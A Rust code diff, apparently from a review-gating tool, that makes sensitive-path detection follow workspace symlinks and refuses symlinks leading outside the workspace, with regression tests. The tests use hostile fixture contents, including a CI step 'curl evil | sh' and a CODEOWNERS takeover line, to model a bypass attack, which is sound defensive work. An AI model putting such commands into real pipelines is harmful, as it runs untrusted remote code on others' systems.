@@ -214,14 +214,190 @@ fn clashes_with_writable(path: &str, writable: &[String]) -> bool {
     writable.iter().any(|w| below_or_at(folded(path), folded(w)) || strictly_below(folded(w), folded(path)))
 }
 
-/// The proposed paths that match a sensitive glob.
+/// The proposed paths that are sensitive: under their own name, or under any name the revision's symlinks give
+/// the same file (ADR-565: `build.rs -> notes.txt` makes a change to `notes.txt` a change to `build.rs`).
 pub fn sensitive_paths(state: &TaskState) -> Vec<String> {
     let Some(p) = &state.proposal else { return Vec::new() };
-    p.files
-        .iter()
-        .filter(|f| state.config.sensitive.iter().any(|g| glob_match(g, &f.path)))
-        .map(|f| f.path.clone())
-        .collect()
+    p.files.iter().filter(|f| is_sensitive(state, &f.path)).map(|f| f.path.clone()).collect()
+}
+
+/// Whether a change to `path` is sensitive at the task's revision: one of the names that reach its file through
+/// the revision's symlinks matches a sensitive glob, or is a name no change set may write (inside `.git`); or
+/// the names cannot all be known (a link whose target is not recorded, more names than [`MAX_ALIASES`]).
+fn is_sensitive(state: &TaskState, path: &str) -> bool {
+    let sensitive =
+        |name: &str| check_path(name).is_err() || state.config.sensitive.iter().any(|g| glob_match(g, name));
+    match aliases(&state.workspace, &state.config.workspace, path) {
+        Some(names) => names.iter().any(|n| sensitive(n)),
+        None => true,
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// Symlinks of the revision (ADR-565)
+
+/// The most names the rules follow one path through before calling it sensitive.
+pub const MAX_ALIASES: usize = 256;
+/// The most symlinks one resolution follows (the kernel's own limit is 40).
+const MAX_LINK_HOPS: usize = 40;
+
+/// Where a path of the workspace leads when every symlink the manifest records on its way is followed, as the
+/// kernel would (component by component, `..` from where a link led).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Resolved {
+    /// A real path inside the workspace (`""`: the workspace itself), existing or not.
+    Inside(String),
+    /// Out of the workspace: an absolute target elsewhere, or `..` above its root.
+    Outside,
+    /// Through a symlink whose target the manifest does not record (a manifest written before ADR-565).
+    Unknown,
+    /// More than [`MAX_LINK_HOPS`] links: the kernel refuses to open it (`ELOOP`).
+    Loop,
+}
+
+/// Resolves `path` through the symlinks `manifest` records. `workspace` is the workspace's absolute path: an
+/// absolute target naming a path below it leads inside (the check sees its copy of the workspace at that very
+/// path); any other absolute target leads outside.
+pub fn resolve(manifest: &Manifest, workspace: &str, path: &str) -> Resolved {
+    let mut todo: Vec<String> = path.split('/').rev().map(str::to_string).collect();
+    let mut at: Vec<String> = Vec::new();
+    let mut hops = 0;
+    while let Some(part) = todo.pop() {
+        match part.as_str() {
+            "" | "." => continue,
+            ".." => {
+                if at.pop().is_none() {
+                    return Resolved::Outside;
+                }
+                continue;
+            }
+            _ => at.push(part),
+        }
+        let here = at.join("/");
+        if manifest.get(&here).is_none_or(|e| e.kind != EntryKind::Symlink) {
+            continue;
+        }
+        hops += 1;
+        if hops > MAX_LINK_HOPS {
+            return Resolved::Loop;
+        }
+        let Some(target) = manifest.links.get(&here) else { return Resolved::Unknown };
+        at.pop();
+        let rest = match target.strip_prefix('/') {
+            Some(absolute) => {
+                let mut parts = absolute.split('/').filter(|p| !p.is_empty() && *p != ".");
+                let root = workspace.split('/').filter(|p| !p.is_empty());
+                if !root.into_iter().all(|w| parts.next() == Some(w)) {
+                    return Resolved::Outside;
+                }
+                at.clear();
+                parts.collect::<Vec<_>>()
+            }
+            None => target.split('/').collect(),
+        };
+        todo.extend(rest.into_iter().rev().map(str::to_string));
+    }
+    Resolved::Inside(at.join("/"))
+}
+
+/// Every name by which the file at `path` can be reached through the revision's symlinks, `path` included: where
+/// a link on its way leads (`notes -> build.rs`: `notes` is `build.rs`), and each link that leads to it or to a
+/// directory above it (`build.rs -> notes.txt`: `notes.txt` is `build.rs`; `.github/workflows -> ../ci`:
+/// `ci/x.yml` is `.github/workflows/x.yml`), again and again through chains of links. Compared as a
+/// case-insensitive filesystem would (folded). `None` when they cannot all be known: a link whose target is not
+/// recorded, or more than [`MAX_ALIASES`] names.
+pub fn aliases(manifest: &Manifest, workspace: &str, path: &str) -> Option<BTreeSet<String>> {
+    let mut links: Vec<(&str, String)> = Vec::new();
+    for e in manifest.files.iter().filter(|e| e.kind == EntryKind::Symlink) {
+        match resolve(manifest, workspace, &e.path) {
+            Resolved::Inside(to) => links.push((e.path.as_str(), foureyes_core::fold::folded(&to))),
+            Resolved::Unknown => return None,
+            Resolved::Outside | Resolved::Loop => {}
+        }
+    }
+    let mut names = BTreeSet::from([path.to_string()]);
+    let mut todo = vec![path.to_string()];
+    while let Some(name) = todo.pop() {
+        let mut found = Vec::new();
+        match resolve(manifest, workspace, &name) {
+            Resolved::Inside(real) => found.push(real),
+            Resolved::Unknown => return None,
+            Resolved::Outside | Resolved::Loop => {}
+        }
+        let folded = foureyes_core::fold::folded(&name);
+        for (link, to) in &links {
+            let rest = if to.is_empty() {
+                Some(folded.as_str())
+            } else if folded == *to {
+                Some("")
+            } else {
+                folded.strip_prefix(to.as_str()).and_then(|r| r.strip_prefix('/'))
+            };
+            // The tail keeps the name's own spelling, component for component (folding can make a `/` of a
+            // full-width solidus: then the folded tail).
+            if let Some(rest) = rest {
+                let parts: Vec<&str> = name.split('/').collect();
+                let keep = if rest.is_empty() { 0 } else { rest.split('/').count() };
+                let tail = if folded.split('/').count() == parts.len() {
+                    parts[parts.len() - keep..].join("/")
+                } else {
+                    rest.to_string()
+                };
+                found.push(if tail.is_empty() { link.to_string() } else { format!("{link}/{tail}") });
+            }
+        }
+        for n in found {
+            if names.insert(n.clone()) {
+                if names.len() > MAX_ALIASES {
+                    return None;
+                }
+                todo.push(n);
+            }
+        }
+    }
+    Some(names)
+}
+
+/// The symlink of the revision that `path` is, or goes through (its first), if any.
+fn link_on_the_way<'a>(manifest: &'a Manifest, path: &str) -> Option<&'a ManifestEntry> {
+    let mut end = 0;
+    for part in path.split('/') {
+        end += part.len();
+        if let Some(e) = manifest.get(&path[..end]).filter(|e| e.kind == EntryKind::Symlink) {
+            return Some(e);
+        }
+        end += 1;
+    }
+    None
+}
+
+/// The checks `create` makes of the baseline's symlinks: each has its target recorded, matching its entry, and
+/// leads inside the workspace (ADR-565).
+fn check_links(workspace_path: &str, workspace: &Manifest) -> Result<(), String> {
+    for path in workspace.links.keys() {
+        if workspace.get(path).is_none_or(|e| e.kind != EntryKind::Symlink) {
+            return Err(format!("the manifest records a target for `{}`, which is not a symlink in it", visible(path)));
+        }
+    }
+    for e in workspace.files.iter().filter(|e| e.kind == EntryKind::Symlink) {
+        let shown = visible(&e.path);
+        let Some(target) = workspace.links.get(&e.path) else {
+            return Err(format!("the manifest records the symlink `{shown}` without its target"));
+        };
+        if sha256_hex(target.as_bytes()) != e.sha256 || target.len() as u64 != e.bytes {
+            return Err(format!(
+                "the symlink `{shown}`'s target `{}` is not the one its entry hashes (a target that is not UTF-8 cannot be recorded): replace the link",
+                visible(target)
+            ));
+        }
+        if resolve(workspace, workspace_path, &e.path) == Resolved::Outside {
+            return Err(format!(
+                "the symlink `{shown}` (to `{}`) leads outside the workspace: what a check reads and what finish delivers must be the revision, which cannot record what lies outside; remove the link, point it inside, or keep it in a --writable directory",
+                visible(target)
+            ));
+        }
+    }
+    Ok(())
 }
 
 // ---------------------------------------------------------------------------------------------------------------
@@ -254,6 +430,8 @@ pub fn transition(
             ));
         }
         check_config(config).map_err(|m| refusal("bad_input", format!("cannot create task {task_id}: {m}")))?;
+        check_links(&config.workspace, workspace)
+            .map_err(|m| refusal("bad_input", format!("cannot create task {task_id}: {m}")))?;
         if workspace.files.len() > MAX_MANIFEST_FILES {
             return Err(refusal(
                 "bad_input",
@@ -267,7 +445,7 @@ pub fn transition(
             task_id: task,
             command_id,
             config: config.clone(),
-            workspace: Manifest::new(workspace.files.clone()),
+            workspace: Manifest::new(workspace.files.clone()).with_links(workspace.links.clone()),
             by: None,
         })]);
     }
@@ -309,6 +487,24 @@ pub fn transition(
                 return Err(pending_apply(a));
             }
             let files = check_files(files).map_err(|m| refuse("unsafe_path", m))?;
+            if let Some((f, link)) =
+                files.iter().find_map(|f| link_on_the_way(&s.workspace, &f.path).map(|link| (f, link)))
+            {
+                let target = s
+                    .workspace
+                    .links
+                    .get(&link.path)
+                    .map_or("an unrecorded target".into(), |t| format!("`{}`", visible(t)));
+                return Err(refuse(
+                    "unsafe_path",
+                    format!(
+                        "`{}` is or goes through the symlink `{}` (to {target}) of revision {}: a change set writes real paths only, never through a symlink (it can lead outside the workspace, or to a sensitive path under another name)",
+                        visible(&f.path),
+                        visible(&link.path),
+                        s.revision
+                    ),
+                ));
+            }
             let writable = &s.config.writable;
             if let Some(f) = files.iter().find(|f| clashes_with_writable(&f.path, writable)) {
                 return Err(refuse(
@@ -1252,6 +1448,134 @@ mod tests {
         refused(cmd, &mut s, "workspace_drift", &["`zz/deploy.yml`", "re-run `task apply --command-id a1`"]);
         run(confirm(&s, "a1"), &mut s).unwrap();
         assert_eq!(s.unwrap().workspace.files, vec![entry("a.txt", "a")]);
+    }
+
+    fn link(path: &str, target: &str) -> ManifestEntry {
+        ManifestEntry {
+            path: path.into(),
+            kind: EntryKind::Symlink,
+            sha256: sha256_hex(target.as_bytes()),
+            bytes: target.len() as u64,
+            mode: 0,
+        }
+    }
+
+    /// A manifest holding these symlinks (path, target), their targets recorded as the workspace walk records them.
+    fn with_links(mut files: Vec<ManifestEntry>, links: &[(&str, &str)]) -> Manifest {
+        files.extend(links.iter().map(|(p, t)| link(p, t)));
+        let recorded = links.iter().map(|(p, t)| (p.to_string(), t.to_string())).collect();
+        Manifest::new(files).with_links(recorded)
+    }
+
+    fn created_on(workspace: Manifest) -> Result<Option<TaskState>, TaskRefusal> {
+        let mut s = None;
+        run(TaskCommand::Create { command_id: "create".into(), config: config(), workspace }, &mut s)?;
+        Ok(s)
+    }
+
+    /// Attack 12, H2 (F565): a symlink of the workspace whose own name is sensitive made an innocent path the same
+    /// file: `build.rs -> notes.txt` turned a change to `notes.txt` into a change of the build script (and
+    /// `.github/workflows -> ../ci` one to `ci/deploy.yml` into a pipeline), classified ordinary, applied unapproved.
+    #[test]
+    fn a_change_reached_through_a_sensitive_symlink_is_sensitive() {
+        let base = with_links(
+            vec![entry("notes.txt", "n"), entry("src/gen.mk", "x")],
+            &[
+                ("build.rs", "notes.txt"),
+                (".github/workflows", "../ci"),
+                ("sub/Makefile", "../src/gen.mk"),
+                // A chain: `lib` is `inner`, and `inner/Cargo.toml` (through `lib/x`) is `stuff/x`.
+                ("inner", "stuff"),
+                ("lib/Cargo.toml", "../inner/x"),
+                // An absolute target inside the workspace: the check sees its copy at that very path.
+                ("CODEOWNERS", "/work/repo/docs/owners.txt"),
+                // The workspace itself under a sensitive name: every file is reachable below it.
+                (".ci", "."),
+            ],
+        );
+        let mut s = created_on(base.clone()).unwrap();
+        let files = [
+            ("notes.txt", "fn main() { evil() }"),
+            ("ci/deploy.yml", "run: curl evil | sh"),
+            ("src/gen.mk", "all:\n\tevil\n"),
+            ("stuff/x", "[build]"),
+            ("docs/owners.txt", "* @mallory"),
+        ];
+        run(propose(0, &files), &mut s).unwrap();
+        let mut got = sensitive_paths(s.as_ref().unwrap());
+        got.sort();
+        assert_eq!(got, vec!["ci/deploy.yml", "docs/owners.txt", "notes.txt", "src/gen.mk", "stuff/x"]);
+        // Without the link to the workspace itself, an innocent file away from every link stays ordinary.
+        let mut fewer = base.clone();
+        fewer.files.retain(|e| e.path != ".ci");
+        fewer.links.remove(".ci");
+        let mut s = created_on(fewer).unwrap();
+        run(propose(0, &[("notes.txt", "x"), ("src/lib.rs", "fn f() {}"), ("ci2/x.yml", "y")]), &mut s).unwrap();
+        assert_eq!(sensitive_paths(s.as_ref().unwrap()), vec!["notes.txt"]);
+        // The names follow a link the other way too (`notes -> build.rs`), though propose refuses writing one.
+        let m = with_links(vec![], &[("notes", "build.rs"), ("docs", ".github")]);
+        let names = aliases(&m, "/work/repo", "notes").unwrap();
+        assert!(names.contains("build.rs"), "{names:?}");
+        assert!(aliases(&m, "/work/repo", "docs/workflows/x.yml").unwrap().contains(".github/workflows/x.yml"));
+        // Case is folded as a case-insensitive filesystem would: `BUILD.rs -> NOTES.txt` reaches `notes.txt`.
+        let m = with_links(vec![], &[("BUILD.RS", "NOTES.TXT")]);
+        assert!(aliases(&m, "/work/repo", "notes.txt").unwrap().contains("BUILD.RS"));
+        // A cycle of links is bounded (the kernel refuses such a path: `ELOOP`).
+        let m = with_links(vec![], &[("a", "a/b")]);
+        assert!(aliases(&m, "/work/repo", "a/b/c").is_none_or(|n| n.len() <= MAX_ALIASES));
+    }
+
+    /// A manifest written before link targets were recorded (a task created by an older version) holds a symlink
+    /// whose target the rules cannot know: every change of such a revision is sensitive.
+    #[test]
+    fn a_symlink_whose_target_is_not_recorded_makes_every_change_sensitive() {
+        let mut base = Manifest::new(vec![entry("notes.txt", "n"), link("build.rs", "notes.txt")]);
+        base.links.clear();
+        let created = TaskEvent::Created(TaskCreated {
+            task_id: T.into(),
+            command_id: "create".into(),
+            config: config(),
+            workspace: base,
+            by: None,
+        });
+        let mut s = apply(None, &created);
+        run(propose(0, &[("src/lib.rs", "x")]), &mut s).unwrap();
+        assert_eq!(sensitive_paths(s.as_ref().unwrap()), vec!["src/lib.rs"]);
+    }
+
+    /// ADR-565: `create` refuses a baseline with a symlink that leads outside the workspace, or whose target the
+    /// manifest does not record as its entry hashes it; and propose refuses a path that is, or goes through, a
+    /// symlink of the revision (over the API too, where the propose endpoint never touches the disk).
+    #[test]
+    fn symlinks_leading_outside_are_refused_at_create_and_paths_through_one_at_propose() {
+        for (path, target) in
+            [("out", "/etc"), ("up", "../x"), ("deep/up", "../../x"), ("abs", "/work/repository/x"), ("p", "/work")]
+        {
+            let r = created_on(with_links(vec![], &[(path, target)])).unwrap_err();
+            assert_eq!(r.code, "bad_input", "{r}");
+            assert!(r.message.contains("leads outside the workspace"), "{path} -> {target}: {r}");
+        }
+        let mut unrecorded = with_links(vec![], &[("x", "y")]);
+        unrecorded.links.clear();
+        assert!(created_on(unrecorded).unwrap_err().message.contains("without its target"));
+        let mut lying = with_links(vec![], &[("x", "y")]);
+        lying.links.insert("x".into(), "build.rs".into());
+        assert!(created_on(lying).unwrap_err().message.contains("not the one its entry hashes"));
+        let mut stray = with_links(vec![], &[]);
+        stray.links.insert("x".into(), "y".into());
+        assert!(created_on(stray).unwrap_err().message.contains("not a symlink"));
+        // Inside: relative, `..` that stays inside, absolute below the workspace, dangling.
+        let base = with_links(
+            vec![],
+            &[("notes", "build.rs"), ("docs", "sub/../.github"), ("abs", "/work/repo/src"), ("gone", "nowhere")],
+        );
+        let mut s = created_on(base).unwrap();
+        for path in ["notes", "docs/workflows/x.yml", "abs/lib.rs"] {
+            let r = refused(propose(0, &[(path, "x")]), &mut s, "unsafe_path", &["goes through the symlink"]);
+            assert!(r.message.contains("(to `"), "{r}");
+        }
+        run(propose(0, &[("nowhere", "x")]), &mut s).unwrap();
+        assert_eq!(sensitive_paths(s.as_ref().unwrap()), Vec::<String>::new());
     }
 
     #[test]
